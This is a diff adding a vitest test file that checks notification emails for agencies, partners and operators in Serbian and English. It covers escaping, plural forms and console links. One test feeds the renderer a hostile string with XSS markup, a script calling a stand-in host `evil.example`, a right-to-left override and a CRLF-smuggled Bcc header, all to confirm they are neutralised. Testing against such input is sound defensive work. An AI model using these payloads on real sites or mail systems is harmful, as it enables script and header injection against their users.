@@ -1,0 +1,121 @@
+import { readFile } from 'node:fs/promises';
+import { describe, expect, it } from 'vitest';
+import { noticePages } from '../../src/core/notice-links.js';
+import { matterKinds, noticeLanguages, type Matter, type NoticeRole } from '../../src/core/notices.js';
+import { matterWords } from '../../src/core/notice-words.js';
+import { noticeMessage } from '../../src/sync/notice-message.js';
+
+const hostile = `"><img src=x onerror=alert(1)><script>fetch('//evil.example')</script>\u202e\r\nBcc: all@evil.example`;
+const base = 'https://feedsync.example';
+
+function matter(change: Partial<Matter> = {}): Matter {
+  return {
+    cause: 'hold 7',
+    kind: 'hold',
+    connectionId: 'c',
+    agency: 'Primer',
+    count: 5,
+    since: 0,
+    roles: ['agency'],
+    atOnce: true,
+    hold: { id: 7, kind: 'removals', lines: 5, titles: [] },
+    note: null,
+    ...change,
+  };
+}
+
+const roles: readonly NoticeRole[] = ['agency', 'partner', 'operator'];
+const everyMessage = matterKinds.flatMap((kind) =>
+  noticeLanguages.flatMap((language) => roles.map((role) => ({ kind, language, role }))),
+);
+
+const harmless = new Set('!doctype html head meta body p strong ul li blockquote a hr small'.split(' '));
+const ownAttribute =
+  /^(html|lang="(sr-Latn|en)"|charset="utf-8"|href="https:\/\/feedsync\.example\/console[/\w]*")?\s*\/?$/;
+
+describe('what people are told', () => {
+  it('is inert markup, whatever feeds, agencies and staff write', () => {
+    const hold = { id: 7, kind: 'removals', lines: 5, titles: [hostile, 'Stan & dvorište'] };
+    const named = { agency: hostile, note: hostile, hold };
+    for (const { kind, language, role } of everyMessage) {
+      const told = noticeMessage([matter({ kind, ...named })], { role, language, cyrillic: false }, base);
+      const tags = [...told.html.matchAll(/<\/?([a-z!]+)([^>]*)>/gi)];
+      expect(tags.filter(([, name = '']) => !harmless.has(name.toLowerCase()))).toEqual([]);
+      const attributes = tags.map(([, , rest = '']) => rest.trim()).filter((rest) => rest !== '');
+      expect(attributes.filter((attribute) => !ownAttribute.test(attribute))).toEqual([]);
+      expect(told.html).toContain('&lt;script&gt;');
+      expect(told.html).not.toContain('\u202e');
+      expect(told.subject).not.toMatch(/[\r\n]/);
+      expect(told.text).toContain('https://feedsync.example/console');
+    }
+  });
+
+  it('has the right form of every number, and none of our words where an agency reads it', () => {
+    const said = [1, 2, 5, 21, 1200].map((count) => matterWords(matter({ count }), 'agency', 'sr').what);
+    expect(said.map((text) => text.split(',')[0])).toEqual([
+      'Iz vašeg fajla je nestao 1 oglas',
+      'Iz vašeg fajla su nestala 2 oglasa',
+      'Iz vašeg fajla je nestalo 5 oglasa',
+      'Iz vašeg fajla je nestao 21 oglas',
+      'Iz vašeg fajla je nestalo 1.200 oglasa',
+    ]);
+    expect(matterWords(matter({ count: 1 }), 'agency', 'en').what).toContain('1 listing is missing');
+    const agencyKinds = [
+      'hold',
+      'unanswered_fact',
+      'new_word',
+      'connection_paused',
+      'connection_sent_back',
+      'taken_down',
+    ] as const;
+    for (const kind of agencyKinds)
+      for (const language of noticeLanguages)
+        for (const count of [0, 1, 2, 5]) {
+          const { subject, text, html } = noticeMessage(
+            [matter({ kind, count })],
+            { role: 'agency', language, cyrillic: false },
+            base,
+          );
+          expect(subject + text + html).not.toMatch(
+            /\b(hold|outbox|drift|snapshot|digest|vocabulary|runs?|feed|feedsync\b(?!\.example))\b/i,
+          );
+        }
+  });
+
+  it('counts where there are several, and names pages where the console has no address', () => {
+    const several = [matter(), matter({ cause: 'new_word 1', kind: 'new_word', count: 2, hold: null })];
+    const sr = noticeMessage(several, { role: 'agency', language: 'sr', cyrillic: false }, null);
+    expect(sr.subject).toBe('Čekaju vas 2 stvari');
+    expect(sr.text).toContain('Otvorite u konzoli stranu „Čeka vas“.');
+    expect(sr.text).toContain('Otvorite u konzoli stranu „Reči“.');
+    expect(sr.text + sr.html).not.toMatch(/https?:|href/);
+    const en = noticeMessage(several, { role: 'operator', language: 'en', cyrillic: false }, null);
+    expect(en.subject).toBe('feedsync: 2 things wait for you');
+  });
+
+  it('is in Cyrillic where that is asked for, but for what others wrote', () => {
+    const hold = { id: 7, kind: 'removals', lines: 5, titles: ['Stan na Limanu'] };
+    const to = { role: 'agency', language: 'sr', cyrillic: true } as const;
+    const told = noticeMessage([matter({ hold })], to, base);
+    expect(told.subject).toContain('Из вашег фајла је нестало 5 огласа');
+    expect(told.text).toContain('Stan na Limanu');
+    expect(told.text).toContain('https://feedsync.example/console/waiting/7');
+    expect(told.html).toContain('lang="sr-Cyrl"');
+  });
+});
+
+describe('the pages that links open', () => {
+  it('are pages of the console, called as it calls them', async () => {
+    const read = (file: string): Promise<string> => readFile(`src/console/${file}`, 'utf8');
+    const paths = (await Promise.all(['agency-pages.ts', 'staff-pages.ts', 'pages.ts'].map(read))).join('');
+    const names = (
+      await Promise.all(['agency.ts', 'operator.ts', 'operations.ts', 'setup.ts'].map((file) => read(`words/${file}`)))
+    ).join('');
+    for (const { path, name } of noticePages) {
+      expect(paths).toContain(`path: '${path === '' ? '/' : path}'`);
+      expect(names).toContain(`{ sr: '${name.sr}', en: '${name.en}' }`);
+    }
+    for (const path of ['/waiting/:id', '/holds/:id', '/connections/:id'])
+      expect(paths).toContain(`path: '${path}'`);
+  });
+});
